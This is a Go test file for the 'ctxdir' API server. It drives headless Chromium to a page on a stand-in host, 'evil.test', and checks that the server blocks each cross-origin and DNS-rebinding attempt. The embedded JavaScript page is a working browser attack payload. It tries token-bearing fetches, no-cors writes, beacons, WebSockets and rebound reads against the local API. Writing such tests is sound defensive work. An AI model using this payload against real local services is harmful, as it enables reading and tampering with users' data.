package api_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/ctxdir/ctxdir/api"
)

// chromium returns the command that opens a page. The name evil.test is this machine.
func chromium(ctx context.Context, t *testing.T, args ...string) *exec.Cmd {
	t.Helper()
	if testing.Short() && os.Getenv("CTXDIR_TEST_BROWSER") == "" {
		t.Skip("a browser takes some seconds; CTXDIR_TEST_BROWSER=1 runs it with -short, too")
	}
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if path, err := exec.LookPath(name); err == nil {
			cmd := exec.CommandContext(ctx, path, append([]string{
				"--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking",
				"--user-data-dir=" + t.TempDir(), "--host-resolver-rules=MAP *.test 127.0.0.1",
			}, args...)...)
			cmd.Cancel = func() error { return cmd.Process.Signal(os.Interrupt) } // it ends its own processes
			return cmd
		}
	}
	t.Skip("no Chromium")
	return nil
}

// document returns the document that a browser makes of a page without scripts.
func document(t *testing.T, url string) string {
	t.Helper()
	out, err := chromium(t.Context(), t, "--dump-dom", url).Output()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return string(out)
}

// attack is a page that tries to reach the server in every way that a page has.
const attack = `<!doctype html><meta charset="utf-8"><body><script>
const base = "http://127.0.0.1:%PORT%", rebound = "http://evil.test:%PORT%", id = "%ID%", token = "%TOKEN%";
const results = {};
const attempt = async (name, f) => {
  try { results[name] = String(await f()).slice(0, 200); } catch (e) { results[name] = "blocked"; }
};
const read = async r => r.type + " " + r.status + " " + (await r.text());
const loads = (tag, src) => new Promise((yes, no) => {
  const e = document.createElement(tag);
  if (tag === "link") { e.rel = "stylesheet"; e.href = src; } else e.src = src;
  e.onload = () => yes("loaded"); e.onerror = no; document.body.append(e);
});
const socket = (url, ...names) => new Promise((yes, no) => {
  const s = new WebSocket(url, names); s.onmessage = e => yes(e.data); s.onerror = no; s.onclose = no;
});
(async () => {
  await attempt("control", async () => read(await fetch("/control")));
  await attempt("read", async () => read(await fetch(base + "/v1/contexts")));
  const bearer = {headers: {Authorization: "Bearer " + token}};
  await attempt("read with the token", async () => read(await fetch(base + "/v1/contexts", bearer)));
  await attempt("read with cookies", async () => read(await fetch(base + "/v1/contexts", {credentials: "include"})));
  await attempt("read without cors", async () => read(await fetch(base + "/v1/contexts", {mode: "no-cors"})));
  await attempt("write without cors", async () => read(await fetch(base + "/v1/contexts", {method: "POST", mode: "no-cors", body: "{}"})));
  await attempt("write a form", async () => read(await fetch(base + "/v1/contexts/" + id + "/branches/main/messages",
    {method: "POST", mode: "no-cors", body: new URLSearchParams({x: "1"})})));
  await attempt("beacon", async () => navigator.sendBeacon(base + "/v1/contexts", new Blob(["{}"], {type: "text/plain"})) && "queued");
  await attempt("rebound read", async () => read(await fetch(rebound + "/v1/contexts", bearer)));
  await attempt("rebound read without cors", async () => read(await fetch(rebound + "/v1/contexts", {mode: "no-cors"})));
  const events = at => at.replace("http", "ws") + "/v1/contexts/" + id + "/events", names = ["ctxdir.v1", "ctxdir.token." + token];
  await attempt("socket", async () => socket(events(base)));
  await attempt("socket with the token", async () => socket(events(base), ...names));
  await attempt("rebound socket", async () => socket(events(rebound), ...names));
  await attempt("script", async () => loads("script", base + "/v1/openapi.yaml"));
  await attempt("image", async () => loads("img", base + "/docs.css"));
  await attempt("style", async () => loads("link", base + "/docs.css"));
  await attempt("frame", async () => {
    await loads("iframe", base + "/docs");
    return document.querySelector("iframe").contentDocument ? "readable" : "blocked";
  });
  await fetch("/results", {method: "POST", body: JSON.stringify(results)});
})();
</script>`

// TestPageOfAnotherOrigin lets a real browser visit a page that attacks the server, with and without the token.
func TestPageOfAnotherOrigin(t *testing.T) {
	k := newKit(t, api.Options{})
	id := k.context(1)
	page := strings.NewReplacer("%PORT%", k.host[strings.LastIndexByte(k.host, ':')+1:], "%ID%", id, "%TOKEN%", token).Replace(attack)
	sent := make(chan map[string]string, 1)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/control":
			fmt.Fprint(w, "reached")
		case "/results":
			var results map[string]string
			if err := json.NewDecoder(r.Body).Decode(&results); err != nil {
				t.Error(err)
			}
			sent <- results
		default:
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, page)
		}
	}))
	defer evil.Close()
	ctx, stop := context.WithTimeout(t.Context(), 3*time.Minute)
	defer stop()
	cmd := chromium(ctx, t, "--remote-debugging-port=0", strings.Replace(evil.URL, "127.0.0.1", "evil.test", 1)+"/")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		stop()
		_ = cmd.Wait()
	}()
	var results map[string]string
	select {
	case results = <-sent:
	case <-ctx.Done():
		t.Fatal("the page sent no results")
	}
	if results["control"] != "basic 200 reached" || len(results) < 15 {
		t.Fatalf("the page did not run: %v", results)
	}
	for name, got := range results {
		switch name {
		case "control":
		case "beacon":
			if got != "queued" {
				t.Errorf("%s: %s", name, got)
			}
		default:
			if got != "blocked" {
				t.Errorf("%s: %s", name, got)
			}
		}
	}
	if got := k.count(id); got != 1 {
		t.Errorf("the context has %d messages", got)
	}
	if a := k.do("GET", "/v1/contexts", ""); strings.Count(a.body, `"id"`) != 1 {
		t.Errorf("contexts: %s", a.body)
	}
}

// TestReboundName opens the server under the name of another machine.
func TestReboundName(t *testing.T) {
	k := newKit(t, api.Options{})
	port := k.host[strings.LastIndexByte(k.host, ':'):]
	for _, path := range []string{"/", "/docs", "/v1/contexts"} {
		if dom := document(t, "http://evil.test"+port+path); !strings.Contains(dom, "misdirected") {
			t.Errorf("%s: %s", path, dom)
		}
	}
	if dom := document(t, "http://"+k.host+"/docs"); !strings.Contains(dom, "Append messages, durably") {
		t.Errorf("the page of the server itself: %s", dom)
	}
}
